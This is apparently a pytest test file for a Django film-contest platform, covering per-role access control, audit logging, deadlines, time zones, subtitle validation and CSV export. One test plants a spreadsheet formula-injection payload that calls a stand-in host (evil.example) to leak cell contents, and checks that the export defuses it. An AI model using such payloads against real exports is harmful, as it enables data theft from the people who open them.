import csv
import io
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape

from contest.models import AuditEvent, Entry
from tests.factories import (
    ContentWarningFactory,
    ContestRoleFactory,
    EntryFactory,
    TeamMemberFactory,
    UserFactory,
    ready_entry,
    team_with_member,
)

pytestmark = pytest.mark.django_db

# Every URL under team/entries/<public_id>/ (contest.urls and media_pipeline.urls) with the methods it serves (the
# media views answer 405 to other methods before any lookup, whatever the id: that reveals nothing).
ENTRY_URLS = [
    ("entry_detail", "get"),
    ("entry_detail", "post"),
    ("entry_edit", "get"),
    ("entry_edit", "post"),
    ("entry_submit", "get"),
    ("entry_submit", "post"),
    ("entry_withdraw", "get"),
    ("entry_withdraw", "post"),
    ("entry_withdraw_confirm", "get"),
    ("media_pipeline:upload_create", "post"),
    ("media_pipeline:film_status", "get"),
]


@pytest.mark.parametrize(("name", "method"), ENTRY_URLS)
@pytest.mark.parametrize("who", ["other_team", "juror", "organiser_of_another_contest"])
def test_another_teams_entry_answers_404_on_every_entry_url(client, name, method, who):
    entry = ready_entry(title="Sans voix")
    outsider = {
        "other_team": lambda: team_with_member(contest=entry.contest)[1],
        "juror": lambda: ContestRoleFactory(contest=entry.contest, role="juror").user,
        "organiser_of_another_contest": lambda: ContestRoleFactory().user,
    }[who]()
    client.force_login(outsider)
    url = reverse(name, kwargs={"contest_slug": entry.contest.slug, "public_id": entry.public_id})
    response = getattr(client, method)(url, {"title": "pwned", "size": 1000, "name": "film.mp4"})
    assert response.status_code == 404
    assert "Sans voix" not in response.content.decode()
    entry.refresh_from_db()
    assert (entry.title, entry.status) == ("Sans voix", Entry.Status.DRAFT)
    assert not entry.films.exists()


@pytest.mark.parametrize("name", ["organiser_dashboard", "organiser_entries_csv"])
def test_organiser_pages_answer_404_to_teams_and_jurors(client, name):
    entry = ready_entry()
    member = TeamMemberFactory(team=entry.team).user
    juror = ContestRoleFactory(contest=entry.contest, role="juror").user
    for user in (member, juror):
        client.force_login(user)
        assert client.get(reverse(name, kwargs={"contest_slug": entry.contest.slug})).status_code == 404


def test_organiser_entry_page_answers_404_to_the_entrys_own_team(client):
    entry = ready_entry()
    client.force_login(TeamMemberFactory(team=entry.team).user)
    url = reverse("organiser_entry", kwargs={"contest_slug": entry.contest.slug, "public_id": entry.public_id})
    assert client.get(url).status_code == 404


def test_anonymous_visitors_are_sent_to_log_in(client):
    entry = ready_entry()
    url = reverse("entry_detail", kwargs={"contest_slug": entry.contest.slug, "public_id": entry.public_id})
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"/accounts/login/?next={url}"


def test_team_dashboard_says_in_plain_words_what_is_missing(client):
    team, member = team_with_member()
    EntryFactory(team=team, title="Dire non", synopsis_fr="", synopsis_en="")
    client.force_login(member)
    html = client.get(reverse("team_dashboard", kwargs={"contest_slug": team.contest.slug})).content.decode()
    assert "Dire non" in html
    assert "Write a synopsis in French or in English." in html
    assert "Upload your film: it must be received and accepted by the checks." in html
    assert "Confirm that everyone on screen consented to be filmed." in html


def test_creating_an_entry_through_the_form_saves_a_draft_and_an_audit_event(client):
    team, member = team_with_member()
    warning = ContentWarningFactory(contest=team.contest)
    client.force_login(member)
    response = client.post(
        reverse("entry_create", kwargs={"contest_slug": team.contest.slug}),
        {"title": "Sans voix", "synopsis_fr": "Léa ne parle plus.", "content_warnings": [warning.pk]},
    )
    entry = Entry.objects.get(team=team)
    assert response.status_code == 302
    assert response["Location"] == reverse(
        "entry_detail", kwargs={"contest_slug": team.contest.slug, "public_id": entry.public_id}
    )
    assert (entry.title, entry.synopsis_fr, entry.status) == ("Sans voix", "Léa ne parle plus.", "draft")
    assert list(entry.content_warnings.all()) == [warning]
    assert list(AuditEvent.objects.filter(entry=entry).values_list("verb", "actor")) == [("entry_created", member.pk)]


def test_a_synopsis_over_the_limit_is_refused_inline_and_the_text_is_kept(client):
    team, member = team_with_member(contest__max_synopsis_chars=20)
    client.force_login(member)
    long_text = "x" * 25
    response = client.post(
        reverse("entry_create", kwargs={"contest_slug": team.contest.slug}), {"title": "T", "synopsis_fr": long_text}
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "25 characters; the limit is 20: shorten it by 5." in html
    assert long_text in html  # what the team typed is still in the form
    assert not Entry.objects.filter(team=team).exists()


def test_submitting_after_the_deadline_through_the_page_shows_why_and_keeps_the_entry(client, time_machine):
    entry = ready_entry()
    member = TeamMemberFactory(team=entry.team).user
    time_machine.move_to(entry.contest.closes_at + timedelta(seconds=1), tick=False)
    client.force_login(member)  # sessions last 12 h: log in at the travelled time
    url = reverse("entry_submit", kwargs={"contest_slug": entry.contest.slug, "public_id": entry.public_id})
    response = client.post(url, follow=True)
    html = response.content.decode()
    assert "Submissions closed on" in html
    assert "Ask the organisers for an extension." in html
    assert Entry.objects.get(pk=entry.pk).status == Entry.Status.DRAFT


def test_every_state_change_leaves_an_audit_event(client):
    entry = ready_entry()
    member = TeamMemberFactory(team=entry.team).user
    organiser = ContestRoleFactory(contest=entry.contest).user
    slug = entry.contest.slug
    client.force_login(member)
    client.post(reverse("entry_submit", kwargs={"contest_slug": slug, "public_id": entry.public_id}))
    client.post(reverse("entry_withdraw", kwargs={"contest_slug": slug, "public_id": entry.public_id}))
    client.force_login(organiser)
    client.post(
        reverse("organiser_entry_disqualify", kwargs={"contest_slug": slug, "public_id": entry.public_id}),
        {"reason": "Film over the time limit."},
    )
    events = list(AuditEvent.objects.filter(entry=entry).order_by("id").values_list("verb", "actor", "data"))
    assert events == [
        ("entry_submitted", member.pk, {}),
        ("entry_withdrawn", member.pk, {"before": "submitted"}),
        ("entry_disqualified", organiser.pk, {"before": "withdrawn", "reason": "Film over the time limit."}),
    ]
    entry.refresh_from_db()
    assert (entry.status, entry.disqualification_reason) == ("disqualified", "Film over the time limit.")


def test_the_team_sees_the_disqualification_reason(client):
    entry = ready_entry(status="disqualified", disqualification_reason="Film over the time limit.")
    client.force_login(TeamMemberFactory(team=entry.team).user)
    html = client.get(reverse("team_dashboard", kwargs={"contest_slug": entry.contest.slug})).content.decode()
    assert "Film over the time limit." in html
    page = client.get(
        reverse("entry_detail", kwargs={"contest_slug": entry.contest.slug, "public_id": entry.public_id})
    ).content.decode()
    assert "<strong>Disqualified.</strong> Film over the time limit." in page


def test_an_organiser_sets_the_accepted_film_flag_and_the_team_can_then_submit(client):
    entry = ready_entry(film_accepted=False)
    organiser = ContestRoleFactory(contest=entry.contest).user
    member = TeamMemberFactory(team=entry.team).user
    slug = entry.contest.slug
    client.force_login(member)
    submit = reverse("entry_submit", kwargs={"contest_slug": slug, "public_id": entry.public_id})
    assert "Upload your film: it must be received" in client.post(submit, follow=True).content.decode()
    client.force_login(organiser)
    client.post(
        reverse("organiser_entry_accept_film", kwargs={"contest_slug": slug, "public_id": entry.public_id}),
    )
    client.force_login(member)
    client.post(submit)
    entry.refresh_from_db()
    assert (entry.film_accepted, entry.status) == (True, "submitted")
    assert list(AuditEvent.objects.filter(entry=entry).order_by("id").values_list("verb", "actor")) == [
        ("film_accepted", organiser.pk),
        ("entry_submitted", member.pk),
    ]


def test_organiser_grants_an_extension_in_the_contests_time_zone(client):
    entry = ready_entry()
    organiser = ContestRoleFactory(contest=entry.contest).user
    client.force_login(organiser)
    local_deadline = entry.contest.closes_at.astimezone(ZoneInfo("Europe/Paris")) + timedelta(days=1)
    typed = local_deadline.strftime("%Y-%m-%dT%H:%M")
    client.post(
        reverse("organiser_extension", kwargs={"contest_slug": entry.contest.slug, "team_id": entry.team.pk}),
        {"until": typed},
    )
    entry.team.refresh_from_db()
    expected = datetime.strptime(typed, "%Y-%m-%dT%H:%M").replace(tzinfo=ZoneInfo("Europe/Paris"))
    assert entry.team.deadline_extended_to == expected
    assert AuditEvent.objects.filter(verb="extension_granted", actor=organiser).count() == 1


def test_dashboard_shows_times_in_the_contests_time_zone(client):
    entry = ready_entry(
        team__contest__time_zone="America/New_York",
        team__contest__closes_at=datetime(2030, 3, 15, 12, 0, tzinfo=ZoneInfo("UTC")),
    )
    client.force_login(TeamMemberFactory(team=entry.team).user)
    html = client.get(reverse("team_dashboard", kwargs={"contest_slug": entry.contest.slug})).content.decode()
    assert "March 15, 2030, 8 a.m." in html


def test_csv_export_lists_every_entry_with_exact_columns(client, django_assert_max_num_queries):
    entry = ready_entry(title="Sans voix", runtime_s=480)
    warning = ContentWarningFactory(contest=entry.contest, code="sexual_violence")
    entry.content_warnings.add(warning)
    for _ in range(5):
        EntryFactory(team__contest=entry.contest)
    organiser = ContestRoleFactory(contest=entry.contest).user
    client.force_login(organiser)
    with django_assert_max_num_queries(8):
        response = client.get(reverse("organiser_entries_csv", kwargs={"contest_slug": entry.contest.slug}))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert rows[0][:4] == ["code", "title", "status", "team"]
    assert len(rows) == 7
    row = next(row for row in rows if row[1] == "Sans voix")
    assert row[2:8] == ["draft", entry.team.name, entry.team.institution.name, "", "480", "sexual_violence"]


def test_an_organiser_page_lists_entries_by_state(client):
    entry = ready_entry(status="submitted")
    EntryFactory(team__contest=entry.contest, status="withdrawn")
    EntryFactory(team__contest=entry.contest, status="withdrawn")
    client.force_login(ContestRoleFactory(contest=entry.contest).user)
    html = client.get(reverse("organiser_dashboard", kwargs={"contest_slug": entry.contest.slug})).content.decode()
    assert 'data-state="submitted">1<' in html
    assert 'data-state="withdrawn">2<' in html
    assert 'data-state="draft">0<' in html


def test_a_person_in_no_team_gets_404_on_the_team_pages(client):
    entry = ready_entry()
    client.force_login(UserFactory())
    assert client.get(reverse("team_dashboard", kwargs={"contest_slug": entry.contest.slug})).status_code == 404
    assert client.get(reverse("entry_create", kwargs={"contest_slug": entry.contest.slug})).status_code == 404


def _post_entry(client, team, **extra):
    return client.post(reverse("entry_create", kwargs={"contest_slug": team.contest.slug}), {"title": "T", **extra})


@pytest.mark.parametrize("field", ["synopsis_fr", "synopsis_en"])
def test_each_synopsis_is_length_checked_at_its_limit(client, field):
    team, member = team_with_member(contest__max_synopsis_chars=20)
    client.force_login(member)
    assert (
        "21 characters; the limit is 20: shorten it by 1."
        in _post_entry(client, team, **{field: "é" * 21}).content.decode()
    )
    assert not Entry.objects.filter(team=team).exists()
    assert _post_entry(client, team, **{field: "é" * 20}).status_code == 302
    assert getattr(Entry.objects.get(team=team), field) == "é" * 20


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("sous-titres.srt", "1\r\n00:00:01,000 --> 00:00:02,500\r\nElle se tait.\r\n"),
        ("subtitles.vtt", "WEBVTT\n\n00:00:01.000 --> 00:00:02.500\nShe falls silent.\n"),
        (
            "captions.vtt",
            "WEBVTT\nKind: captions\nLanguage: fr\n\n00:01.000 --> 00:02.500 align:start\n<v Yanis>Elle se tait.\n",
        ),
    ],
)
def test_a_valid_subtitle_file_is_kept_with_the_entry(client, name, content):
    team, member = team_with_member()
    client.force_login(member)
    response = _post_entry(client, team, subtitle_file=SimpleUploadedFile(name, content.encode()))
    assert response.status_code == 302
    entry = Entry.objects.get(team=team)
    with entry.subtitle_file.open("rb") as stored:
        assert stored.read() == content.encode()  # the whole file, although the form read it to check it


def test_a_subtitle_file_is_stored_under_a_random_key_not_its_name(client):
    team, member = team_with_member()
    client.force_login(member)
    content = b"1\r\n00:00:01,000 --> 00:00:02,500\r\nElle se tait.\r\n"

    response = _post_entry(client, team, subtitle_file=SimpleUploadedFile("Yanis Bernard - Sans voix.SRT", content))

    assert response.status_code == 302
    name = Entry.objects.get(team=team).subtitle_file.name
    assert re.fullmatch(r"subtitles/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.srt", name), name


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "sous-titres.srt",
            b"1\n00:00:01,000 --> 00:00:02,000\nBonjour\n\n2\n00:00:05,000 --> 00:00:04,000\nAu revoir\n",
            "The subtitle file is not valid SRT or WebVTT (line 6: cue ends before start).",
        ),
        (
            "subtitles.vtt",
            b"WEBVTT\n\n00:00:01.000 -> 00:00:02.000\nHello\n",
            "The subtitle file is not valid SRT or WebVTT (line 4: expected a timing line).",
        ),
        ("empty.srt", b"", "The submitted file is empty."),
        ("film.mp4", b"\x00\x00\x00\x18ftypmp42", "Choose a WebVTT (.vtt) or SubRip (.srt) file."),
    ],
)
def test_a_broken_subtitle_file_is_refused_at_upload_with_the_line_to_fix(client, name, content, message):
    team, member = team_with_member()
    client.force_login(member)
    response = _post_entry(client, team, synopsis_fr="Gardé.", subtitle_file=SimpleUploadedFile(name, content))
    html = response.content.decode()
    assert response.status_code == 200
    assert html.count(escape(message)) == 1
    assert "Gardé." in html
    assert not Entry.objects.filter(team=team).exists()


def test_every_page_and_the_export_show_times_in_the_contests_time_zone(client, time_machine):
    utc = ZoneInfo("UTC")
    entry = ready_entry(
        title="Sans voix",
        team__contest__time_zone="America/New_York",
        team__contest__opens_at=datetime(2030, 3, 1, 17, 0, tzinfo=utc),
        team__contest__closes_at=datetime(2030, 3, 15, 12, 0, tzinfo=utc),
        team__deadline_extended_to=datetime(2030, 3, 16, 3, 30, tzinfo=utc),
    )
    member = TeamMemberFactory(team=entry.team).user
    organiser = ContestRoleFactory(contest=entry.contest).user
    slug = entry.contest.slug
    time_machine.move_to(datetime(2030, 3, 10, 14, 5, tzinfo=utc), tick=False)
    client.force_login(member)
    client.post(reverse("entry_submit", kwargs={"contest_slug": slug, "public_id": entry.public_id}))
    team_page = client.get(reverse("team_dashboard", kwargs={"contest_slug": slug})).content.decode()
    entry_page = client.get(
        reverse("entry_detail", kwargs={"contest_slug": slug, "public_id": entry.public_id})
    ).content.decode()
    client.force_login(organiser)
    dashboard = client.get(reverse("organiser_dashboard", kwargs={"contest_slug": slug})).content.decode()
    organiser_entry = client.get(
        reverse("organiser_entry", kwargs={"contest_slug": slug, "public_id": entry.public_id})
    ).content.decode()
    rows = list(
        csv.DictReader(
            io.StringIO(
                client.get(reverse("organiser_entries_csv", kwargs={"contest_slug": slug})).content.decode("utf-8-sig")
            )
        )
    )

    assert "Submissions close on March 15, 2030, 11:30 p.m.." in team_page  # the team's extension, New York time
    assert "March 10, 2030, 10:05 a.m." in entry_page  # the submission in the history
    assert "Submissions from March 1, 2030, noon to March 15, 2030, 8 a.m. (America/New_York)." in dashboard
    assert "<td>March 15, 2030, 11:30 p.m.</td>" in dashboard
    assert "March 10, 2030, 10:05 a.m." in organiser_entry
    assert [row["submitted_at"] for row in rows] == ["2030-03-10T10:05:00-04:00"]


def test_the_csv_export_defuses_text_that_a_spreadsheet_would_run(client):
    entry = ready_entry(title='=HYPERLINK("http://evil.example/?"&A1,"Sans voix")', synopsis_fr="@SUM(1+1)")
    entry.team.name = "+Team"
    entry.team.save()
    client.force_login(ContestRoleFactory(contest=entry.contest).user)
    response = client.get(reverse("organiser_entries_csv", kwargs={"contest_slug": entry.contest.slug}))
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert (row["title"], row["team"], row["synopsis_fr"], row["runtime_s"]) == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"Sans voix")',
        "'+Team",
        "'@SUM(1+1)",
        "",
    )


def test_only_organisers_of_the_contest_disqualify_accept_films_or_extend(client):
    entry = ready_entry(film_accepted=False)
    slug = entry.contest.slug
    kwargs = {"contest_slug": slug, "public_id": entry.public_id}
    disqualify_url = reverse("organiser_entry_disqualify", kwargs=kwargs)
    accept_url = reverse("organiser_entry_accept_film", kwargs=kwargs)
    extension_url = reverse("organiser_extension", kwargs={"contest_slug": slug, "team_id": entry.team.pk})
    people = [
        TeamMemberFactory(team=entry.team).user,
        ContestRoleFactory(contest=entry.contest, role="juror").user,
        ContestRoleFactory().user,  # an organiser of another contest
        UserFactory(),
    ]
    for person in people:
        client.force_login(person)
        assert client.post(disqualify_url, {"reason": "x"}).status_code == 404
        assert client.post(accept_url).status_code == 404
        assert client.post(extension_url, {"until": "2099-01-01T00:00"}).status_code == 404
    entry.refresh_from_db()
    entry.team.refresh_from_db()
    assert (entry.status, entry.film_accepted, entry.team.deadline_extended_to) == ("draft", False, None)
    assert not AuditEvent.objects.exists()


def test_each_role_lands_on_its_own_page_after_logging_in(client):
    entry = ready_entry()
    slug = entry.contest.slug
    people = {
        "organiser": (ContestRoleFactory(contest=entry.contest).user, f"/c/{slug}/organiser/"),
        "juror": (ContestRoleFactory(contest=entry.contest, role="juror").user, f"/c/{slug}/jury/"),
        "team": (TeamMemberFactory(team=entry.team).user, f"/c/{slug}/team/"),
    }
    landed = {}
    for role, (user, _expected) in people.items():
        client.post(reverse("login"), {"username": user.email, "password": "palmares-test-password"})
        landed[role] = client.get("/")["Location"]
        client.logout()
    assert landed == {role: expected for role, (_user, expected) in people.items()}
